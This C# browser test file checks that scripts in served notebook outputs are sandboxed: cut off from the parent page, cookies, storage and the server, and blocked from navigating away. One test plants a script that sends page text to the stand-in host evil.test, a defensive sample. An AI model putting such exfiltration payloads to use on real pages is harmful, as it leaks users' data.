using System.Text.Json.Nodes;
using Browsing;

namespace Course.Tests.Serving;

/// <summary>Outputs of a notebook on the served page, in a real browser, under the policy that every answer has.</summary>
public sealed class ServedOutputsTests(Browser browser) : IClassFixture<Browser>, IDisposable
{
    private readonly NotebookFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Fact]
    public async Task A_script_of_an_output_runs_in_a_frame_and_reaches_neither_page_nor_server()
    {
        await using var course = await StartAsync(
            """
            <p id="x"></p><div style="height:700px"></div>
            <script>
              const tries = [`origin ${origin}`];
              const attempt = (name, action) => { try { action(); tries.push(`${name} done`); } catch { tries.push(`${name} refused`); } };
              attempt('page', () => parent.document.title = 'taken');
              attempt('cookie', () => document.cookie = 'a=b');
              attempt('storage', () => localStorage.setItem('theme', 'dark'));
              fetch('/lessons/a/notebook').then(() => tries.push('server done'), () => tries.push('server refused')).then(() => x.textContent = tries.join(', '));
            </script>
            """);
        await using var page = await browser.OpenAsync(1280);
        await OpenAsync(page, course);
        var frame = page.Raw.FrameLocator("iframe.frame");
        await frame.GetByText("server").WaitForAsync();
        Assert.Equal("origin null, page refused, cookie refused, storage refused, server refused", await frame.Locator("#x").TextContentAsync());
        await page.Raw.WaitForFunctionAsync("document.querySelector('iframe.frame').offsetHeight > 700");
        Assert.NotEqual("taken", await page.Raw.TitleAsync());
    }

    [Fact]
    public async Task A_frame_cannot_leave_for_another_site()
    {
        await using var course = await StartAsync("<p>here</p><script>location = 'http://evil.test/?' + document.body.textContent</script>");
        await using var page = await browser.OpenAsync(1280);
        await page.Raw.RunAndWaitForConsoleMessageAsync(
            () => OpenAsync(page, course),
            new() { Predicate = message => message.Text.Contains("evil.test", StringComparison.Ordinal) && message.Text.Contains("frame-src", StringComparison.Ordinal) });
        Assert.DoesNotContain(page.Requests, request => request.StartsWith("http://evil.test", StringComparison.Ordinal));
    }

    private static async Task OpenAsync(Page page, ServedCourse course)
    {
        await page.Raw.GotoAsync(course.Server.Link(course.Server.Keys.Token).AbsoluteUri);
        await page.Raw.GotoAsync(new Uri(course.Server.Address, "/lessons/a").AbsoluteUri);
    }

    private Task<ServedCourse> StartAsync(string html)
    {
        var output = new JsonObject
        {
            ["output_type"] = "display_data",
            ["metadata"] = new JsonObject(),
            ["data"] = new JsonObject { ["text/html"] = html },
        };
        File.WriteAllText(_folder.File("a.ipynb"), NotebookFolder.Json([NotebookFolder.Code("a", "1", output)]).ToJsonString());
        return ServedCourse.StartAsync(_folder.Path, letIn: false);
    }
}
